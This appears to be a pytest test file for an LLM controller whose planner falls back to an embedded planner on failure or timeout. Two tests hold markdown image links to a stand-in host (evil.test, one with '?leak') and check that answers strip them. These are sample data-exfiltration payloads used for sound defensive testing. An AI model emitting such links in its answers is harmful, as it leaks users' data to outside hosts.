"""Who plans and who answers, and what happens where an LLM fails."""

import asyncio
from collections.abc import Sequence
from typing import Any

import pytest

from controller.brain import Checked, Guarded, brain, task_time
from controller.errors import TooManyTasksError
from controller.outcome import Outcome, Status
from controller.plan import Plan
from controller.planner import RawTask, Reply
from controller.request import Message, Request
from controller.rules.planner import EmbeddedPlanner
from deployments.llm.endpoint import Endpoint
from deployments.llm.errors import LlmError, LlmRefusedError, LlmUnavailableError
from tests.support.brains import FakePlanner
from tests.support.endpoint import Reply as Silent
from tests.support.endpoint import ScriptedEndpoint
from tests.support.fakes import virtual

ASKED = Request(messages=(Message(role="user", content="Translate 'good morning' into French"),))
TASK = {"task": "translation", "id": 0, "args": {"text": "by the LLM"}}
FAILED = LlmUnavailableError("The endpoint llm.test does not answer.")


async def planned(first: FakePlanner, patience_s: float = 10.0) -> tuple[Plan, list[RawTask | Reply]]:
    """What a guarded planner gives, each task added to the plan as the controller does."""
    plan, steps = Plan(), []
    async for step in Guarded(first, patience_s).plan(ASKED, lambda task: (), plan):
        steps.append(step)
        if not isinstance(step, Reply):
            plan.add(step)
    return plan, steps


def fake(*steps: Any) -> FakePlanner:
    return FakePlanner(steps, streamed=True, name="gpt-test")


async def test_a_planner_that_works_is_left_alone() -> None:
    plan, steps = await planned(fake(TASK))
    assert steps == [TASK]
    assert plan.remarks == []


@pytest.mark.parametrize("steps", [(FAILED,), ()])
async def test_where_it_fails_at_once_the_embedded_brain_plans_and_the_answer_says_so(
    steps: Sequence[Any],
) -> None:
    plan, _ = await planned(fake(*steps))
    assert [task.args["text"] for task in plan.tasks] == ["good morning"]
    (remark,) = plan.remarks
    assert remark.startswith("The embedded brain planned this, since gpt-test could not: ")
    assert not steps or "llm.test does not answer" in remark


@virtual
async def test_one_that_hangs_is_not_waited_for_without_end() -> None:
    first = fake(asyncio.Event())
    plan, _ = await planned(first, patience_s=3.0)
    assert "It planned nothing within 3 s" in plan.remarks[0]
    assert first.closed
    assert plan.tasks


async def test_a_failure_after_the_first_task_is_passed_on() -> None:
    with pytest.raises(LlmError, match="does not answer"):
        await planned(fake(TASK, FAILED))


async def test_a_refusal_is_not_gone_around() -> None:
    with pytest.raises(LlmRefusedError, match="will not"):
        await planned(fake(LlmRefusedError("The model will not do this.")))


async def test_other_errors_are_no_matter_of_the_endpoint() -> None:
    with pytest.raises(TooManyTasksError):
        await planned(fake(TooManyTasksError("too many")))


async def test_closing_it_closes_what_it_guards() -> None:
    first = fake(TASK, asyncio.Event())
    steps = Guarded(first, 10.0).plan(ASKED, lambda task: (), Plan())
    assert await anext(steps) == TASK
    await steps.aclose()
    assert first.closed


async def test_a_direct_answer_names_no_file_that_does_not_exist_and_shows_no_picture_of_others() -> None:
    pieces = ["Look: /images/made-", "up.png and ![x](http://evil.test/", "x.png)", " done."]
    _, steps = await planned(fake(*map(Reply, pieces)))
    said = "".join(step.text for step in steps if isinstance(step, Reply))
    assert "made-up" not in said
    assert "](http" not in said
    assert said.endswith("done.")


async def test_the_embedded_answer_is_checked_too() -> None:
    found = "Read this: ![x](http://evil.test/?leak) now"
    plan = Plan()
    (task,) = plan.add({"task": "image-to-text", "id": 0, "args": {"image": "/images/x.png"}, "want": "ocr"})
    outcome = Outcome(id=0, task=task.task, status=Status.DONE, text=found)
    responder = brain(None, None, 170.0).responder
    answer = "".join([piece async for piece in responder.respond(ASKED, plan, [outcome])])
    assert "Read this" in answer
    assert "](http" not in answer


def test_by_the_settings() -> None:
    none = brain(None, None, 170.0)
    assert isinstance(none.planner, EmbeddedPlanner)
    assert isinstance(none.responder, Checked)
    assert none.responder.name == "embedded brain"
    small, large = (Endpoint(model=name, base_url="http://127.0.0.1:9/v1") for name in ("small", "large"))
    made = brain(small, large, 170.0)
    assert made.planner.name == "small"
    assert made.responder.name == "large"
    assert made.planner.streamed


async def test_patience_leaves_half_of_the_tasks_time_to_the_embedded_brain() -> None:
    """Of a run of 2 s its answer keeps one, and an LLM that is silent gets a half of the other."""
    with ScriptedEndpoint(Silent("x", first_s=60.0)) as server:
        where = Endpoint(model="silent", base_url=server.url)
        made = brain(where, where, 2.0)
        plan = Plan()
        async for step in made.planner.plan(ASKED, lambda task: (), plan):
            assert not isinstance(step, Reply)
            plan.add(step)
    assert [task.args["text"] for task in plan.tasks] == ["good morning"]
    assert "within 0.5 s" in plan.remarks[0]


@pytest.mark.parametrize(
    ("run", "takes", "left"), [(170.0, 30.0, 140.0), (40.0, 30.0, 20.0), (10.0, 0.0, 10.0)]
)
def test_the_time_of_plan_and_tasks(run: float, takes: float, left: float) -> None:
    assert task_time(run, takes) == left


async def test_what_the_embedded_brain_plans_instead_is_whole_before_its_first_task_is_given() -> None:
    then = FakePlanner([TASK, TASK | {"id": 1}])
    steps = Guarded(fake(FAILED), 10.0, then).plan(ASKED, lambda task: (), Plan())
    assert await anext(steps) == TASK
    assert then.closed
    assert [step async for step in steps] == [TASK | {"id": 1}]


async def test_a_failure_after_faulty_tasks_alone_leaves_the_plan_to_the_embedded_brain() -> None:
    plan, _ = await planned(fake({"task": "mind-reading", "id": 0, "args": {}}, FAILED))
    assert [task.args["text"] for task in plan.tasks] == ["good morning"]
    assert plan.faults == []
    assert "does not answer" in plan.remarks[0]
